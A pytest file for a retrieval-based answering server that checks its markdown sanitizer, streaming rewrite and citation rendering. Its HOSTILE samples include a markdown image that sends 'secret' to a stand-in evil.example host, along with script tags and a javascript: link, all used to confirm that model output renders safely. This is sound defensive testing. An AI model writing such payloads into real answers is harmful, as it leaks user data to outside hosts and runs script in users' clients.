import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag.answering.citations import cite
from rag.explanation import Explanation
from rag.server.openai.markdown import EvidenceLink, MarkdownStream, render_answer, sanitize
from rag.types import Answer, Citation, Evidence, Hit, ImageRegion, Segment, Verdict

ANSWER = "The ape is an orangutan [E1]. It eats fruit [E1][E12]."
HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "[click](https://evil.example)",
    "![x][1]\n\n[1]: https://evil.example",
    "<img src=https://evil.example>",
    "<!-- --><script>alert(1)</script>",
    "![[E1]](https://evil.example)",
    "[E1](https://evil.example)",
    "[E1]: https://evil.example",
]


def test_a_stream_cut_anywhere_is_rewritten_the_same():
    for text in (ANSWER, *HOSTILE, "a [E", "b [E12", "c !", "d [", "e ]", "f <", "g [E1] [E1"):
        for cut in range(len(text) + 1):
            stream = MarkdownStream()
            assert stream.feed(text[:cut]) + stream.feed(text[cut:]) + stream.end() == sanitize(text), (text, cut)


@given(st.lists(st.sampled_from(["[E1]", "[E", "1", "]", "[", "!", "(", ":", "<", "a", "\n", " "]), max_size=30))
def test_pieces_of_any_size_are_rewritten_the_same(pieces):
    stream = MarkdownStream()
    assert "".join(map(stream.feed, pieces)) + stream.end() == sanitize("".join(pieces))


def test_no_marker_leaks():
    assert sanitize(ANSWER) == "The ape is an orangutan [1]. It eats fruit [1] [12]."


def test_text_of_a_model_shows_no_pictures_links_or_html():
    # As the most liberal clients render it: HTML on.
    render = MarkdownIt("commonmark", {"html": True}).render
    for text in HOSTILE:
        shown = render(sanitize(text))
        assert "<img" not in shown, text
        assert "<a " not in shown, text
        assert "<script" not in shown, text


SIGN = re.compile(r" \[\?\]\(\S+ \"[^\"]*\"\)")
PICTURE = Segment("a", 0, "image", "picture", ImageRegion())


def answer(text: str, *citations: Citation) -> Answer:
    return Answer("Which ape?", text, citations, (Evidence(1, Hit(PICTURE, Explanation(1.0), "/x/ape [1](2).jpg")),))


SAID = Verdict("supported", quote="an orangutan")
LINKS = {1: EvidenceLink("http://here/evidence/t/marked", 'ape [1](2) "x".jpg', "http://here/evidence/t/crop")}


def test_an_answer_shows_its_picture_and_links_its_numbers():
    text = "It is an orangutan [E1]."
    made = render_answer(answer(text, Citation(1, 0, len(text), SAID)), LINKS)
    shown = MarkdownIt().render(made.text)
    assert '<a href="http://here/evidence/t/marked" title="ape 1 2 x .jpg">1</a>' in shown
    assert '<img src="http://here/evidence/t/crop" alt="ape 1 2 x .jpg"' in shown
    (cite,) = made.cites
    assert made.text[cite.start : cite.end] == "It is an orangutan [1]."


def test_the_tail_completes_a_stream():
    text = "It is an orangutan [E1]."
    made = render_answer(answer(text, Citation(1, 0, len(text), SAID)), LINKS, "It is an orangutan [1].")
    assert made.text == "It is an orangutan [1]." + made.tail
    assert made.tail.startswith("\n\n![")


def test_an_answer_that_differs_from_the_stream_is_a_correction():
    text = "It is an orangutan [E1]."
    made = render_answer(answer(text, Citation(1, 0, len(text), SAID)), LINKS, "It is an orangutan [1]. It can fly.\n")
    assert made.text == "It is an orangutan [1]. It can fly.\n" + made.tail
    assert "corrected" in made.tail
    (cite,) = made.cites
    assert made.text[cite.start : cite.end] == "It is an orangutan [1]."


def test_a_declined_answer_is_its_text():
    declined = Answer("Who?", "The collection does not answer this.", declined=True)
    assert render_answer(declined, {}).text == "The collection does not answer this."


HOSTILE_WORDS = 'x") ![](http://evil.example/a.png) <script>alert(1)</script> `[b](javascript:1)\n\n# x'


@pytest.mark.parametrize("streamed", ["", "It is an orangutan [1].", "It is a bear [1]."])
def test_an_unchecked_statement_is_marked_with_its_reason(streamed):
    text = "It is an orangutan [E1]."
    unchecked = answer(text, Citation(1, 0, len(text), Verdict("unchecked", "A photo has no words.")))
    made = render_answer(unchecked, LINKS, streamed)
    assert made.text.startswith(streamed)
    shown = MarkdownIt().render(made.text)
    link = '<a href="http://here/evidence/t/marked" title='
    if streamed == "It is an orangutan [1].":
        assert "<p>? " + link in shown
        assert "Not checked: A photo has no words.</p>" in shown
    else:
        assert link + '"Not checked: A photo has no words.">?</a>.' in shown
    without_link = render_answer(unchecked, {1: EvidenceLink("", "ape")}, streamed)
    assert "? [1] Not checked: A photo has no words." in without_link.text
    assert "?" not in render_answer(answer(text, Citation(1, 0, len(text), SAID)), LINKS, streamed).text


@pytest.mark.parametrize("name", ["unchecked", "misattributed", "contradicted", "unsupported"])
@pytest.mark.parametrize("streamed", ["", "It is an orangutan [1]."])
def test_a_hostile_reason_is_only_words(name, streamed):
    text = "It is an orangutan [E1]."
    doubted = answer(text, Citation(1, 0, len(text), Verdict(name, HOSTILE_WORDS)))
    shown = MarkdownIt().render(render_answer(doubted, LINKS, streamed).text)
    assert "evil.example" in shown
    assert shown.count("<img") == 1  # the evidence
    assert not re.findall(r'<script|<h1|<code|href="(?!http://here/)', shown)


def test_what_is_left_open_follows_the_text():
    partial = Answer("Who and when?", "Nothing.", open_parts=("when it was ![](http://evil.example)",))
    assert render_answer(partial, {}, "Nothing.").tail == "\n\nLeft open: when it was ! http://evil.example"


@given(
    st.lists(
        st.sampled_from(["[E1]", "[E2]", "[E3]", "[12]", "(a)", "[b]", "!", "<", "c.", " ", "\n", "🦧"]), max_size=14
    )
)
@example(["[E1]", "[b]"])
def test_citations_are_where_their_statements_stand(pieces):
    cited = cite("".join(pieces), 2)
    evidence = tuple(Evidence(n, Hit(PICTURE, Explanation(1.0), "/x/ape.jpg")) for n in (1, 2))
    links = {n: EvidenceLink(f"http://here/{n}", "ape.jpg") for n in (1, 2)}
    whole = render_answer(Answer("Which?", cited.text, cited.citations, evidence), links).text
    assert SIGN.sub("", whole).startswith(sanitize(cited.text).rstrip())
    for streamed in ("", sanitize(cited.text), "🦧🦧 Something else."):
        made = render_answer(Answer("Which?", cited.text, cited.citations, evidence), links, streamed)
        said = [SIGN.sub("", made.text[found.start : found.end]) for found in made.cites]
        assert said == [sanitize(cited.text[c.start : c.end]) for c in cited.citations]
        assert [found.evidence.number for found in made.cites] == [c.number for c in cited.citations]
